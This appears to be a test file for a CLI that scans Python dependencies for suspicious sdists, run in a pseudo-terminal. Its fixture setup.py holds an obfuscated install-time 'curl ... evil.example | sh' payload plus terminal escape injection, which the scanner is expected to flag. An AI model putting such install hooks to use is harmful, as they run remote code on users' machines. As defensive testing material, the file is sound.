// The CLI as a person runs it, in a pseudo-terminal (util-linux `script`): the sources are
// transpiled once into a temporary directory and started as their own process, so that stdout and
// stderr really are terminals. Colour and the progress line appear there, never when piped, and the
// only escape sequences that reach the terminal are our own, whatever the scanned files hold.

import { spawn, spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

import { startIndexServer } from './helpers/index-server.js';
import { makeSdist, makeWheel } from './helpers/archives.js';
import { childOutput, makeProject } from './helpers/project.js';
import { transpileSources } from './helpers/transpile.js';

const HAVE_SCRIPT = spawnSync('script', ['--version'], { encoding: 'utf8' }).status === 0;
const EVIL = `
import subprocess, base64
from setuptools import setup
cmd = base64.b64decode("${Buffer.from('curl -s http://evil.example/a.sh | sh \x1b]0;pwned\x07\x1b[2J').toString('base64')}").decode()
subprocess.Popen(cmd, shell=True)
setup(name="evil", version="1.0")
`;
const DIR = 'svc \x1b[5mblink\x1b[0m';

function shellQuote(s: string): string {
  return `'${s.replace(/'/g, `'\\''`)}'`;
}

(HAVE_SCRIPT ? describe : describe.skip)('the CLI in a pseudo-terminal', () => {
  let index: Awaited<ReturnType<typeof startIndexServer>>;
  let build: string;
  let cli: string;
  let project: { dir: string; cleanup(): void };

  beforeAll(async () => {
    build = mkdtempSync(join(tmpdir(), 'sdist-guard-pty-'));
    cli = transpileSources(build);
    index = await startIndexServer({ projects: { good: [makeWheel('good', '1.0')], evil: [makeSdist('evil', '1.0', { 'setup.py': EVIL })], built: [makeSdist('built', '2.0')] } });
    project = makeProject({});
    mkdirSync(join(project.dir, DIR));
    writeFileSync(join(project.dir, DIR, 'requirements.txt'), 'good==1.0\nbuilt==2.0\nevil==1.0\n');
  }, 120_000);
  afterAll(async () => {
    await index?.close();
    project?.cleanup();
    if (build) rmSync(build, { recursive: true, force: true });
  });

  /** Runs the CLI (the index answers from this process, so the child is awaited, never waited on synchronously). */
  function run(env: Record<string, string>, pty: boolean): Promise<{ code: number | null; out: string; err: string }> {
    const args = [cli, 'scan', '.', '--index-url', index.indexUrl, '--no-cache'];
    const base = { PATH: process.env.PATH ?? '', HOME: project.dir, TERM: 'xterm-256color', ...env };
    const child = pty
      ? spawn('script', ['-qec', [process.execPath, ...args].map(shellQuote).join(' '), '/dev/null'], { cwd: project.dir, env: base, stdio: ['pipe', 'pipe', 'pipe'] })
      : spawn(process.execPath, args, { cwd: project.dir, env: base, stdio: ['ignore', 'pipe', 'pipe'] });
    return childOutput(child).then(({ code, stdout, stderr }) => ({ code, out: stdout.replace(/\r\n/g, '\n'), err: stderr }));
  }

  /** The terminal's input with our own sequences taken out: SGR colours and the line eraser. */
  // eslint-disable-next-line no-control-regex
  const ours = (s: string) => s.replace(/\x1b\[(?:1|2|22|31|32|33|36|39)m/g, '').replace(/\r\x1b\[2K/g, '');

  it('colours the report and draws progress on a terminal, with no escape sequence of the scanned files', async () => {
    const r = await run({}, true);
    expect(r.code).toBe(1);
    expect(r.out).toContain('\x1b[31m\x1b[1msuspicious');
    expect(r.out).toContain('\r\x1b[2Kchecked ');
    // eslint-disable-next-line no-control-regex
    expect(ours(r.out)).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
    expect(r.out).toContain('svc [\\x1b]blink[\\x1b]/requirements.txt:3');
    // the terminal ends with the worst failing dependency and what to do
    const tail = ours(r.out).trimEnd().split('\n').slice(-5).join('\n');
    expect(tail).toMatch(/Report it to the index[\s\S]*FAIL: sdist-guard failed the gate: 1 suspicious/);
  });

  it('NO_COLOR keeps a terminal plain; a pipe gets neither colour nor progress; FORCE_COLOR colours a pipe', async () => {
    const noColor = await run({ NO_COLOR: '1' }, true);
    // eslint-disable-next-line no-control-regex
    expect(noColor.out.replace(/\r\x1b\[2K/g, '')).not.toMatch(/\x1b/);
    const piped = await run({}, false);
    expect(piped.out).not.toMatch(/\x1b/);
    expect(piped.err).toBe('');
    const forced = await run({ FORCE_COLOR: '1' }, false);
    expect(forced.out).toContain('\x1b[31m');
  });
});
